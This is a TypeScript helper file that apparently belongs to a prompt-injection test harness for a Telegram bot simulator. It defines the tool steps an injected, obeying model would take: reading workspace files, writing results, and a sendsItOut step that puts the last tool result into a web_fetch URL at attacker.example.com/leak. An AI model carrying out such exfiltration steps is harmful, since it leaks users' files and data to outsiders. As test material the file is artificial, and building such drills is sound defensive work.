import type { Saying } from '@parley/simulators/telegram';
import type { DrillTurn, Step, TurnKey } from './attack.ts';
import type { Where } from './drill.ts';

/** The address that receives what an obeying model sends out. */
export const ATTACKER = 'http://attacker.example.com/leak';

/** A person asks the bot, and an obeying model does this. */
export function asks(
  where: Where,
  turn: TurnKey,
  words: string,
  obeys: readonly Step[],
  more?: Partial<Saying>,
): DrillTurn {
  return { write: (drill) => void drill.ask(where, turn, words, more), obeys };
}

/** Calls a tool. */
export function call(tool: string, input: object): Step {
  return { tool, input };
}

/** Reads a page. */
export function fetches(url: string): Step {
  return call('web_fetch', { url });
}

/** Reads a file of the workspace. */
export function reads(path: string): Step {
  return call('read', { path });
}

/** Writes the last tool result into a file, with the name of the attack. */
export function keeps(path: string, id: string): Step {
  const textOf = (heard: readonly string[]) => `${keptBy(id)}: ${lastOf(heard)}`;
  return { tool: 'write', input: (heard) => ({ path, text: textOf(heard) }) };
}

/** The beginning of a text that an attack has stored. */
export function keptBy(id: string): string {
  return `kept by ${id}`;
}

/** Sends the last tool result to the attacker, in an address that names the attack. */
export function sendsItOut(id: string): Step {
  return {
    tool: 'web_fetch',
    input: (heard) => ({ url: `${ATTACKER}/${id}?d=${encodeURIComponent(lastOf(heard))}` }),
  };
}

/** Shows the last tool result in the chat. */
export const tellsIt: Step = { says: (heard) => `Here it is: ${lastOf(heard)}` };

/** Answers with this text. */
export function says(words: string): Step {
  return { says: words };
}

function lastOf(heard: readonly string[]): string {
  return (heard.at(-1) ?? 'nothing').slice(0, 400);
}
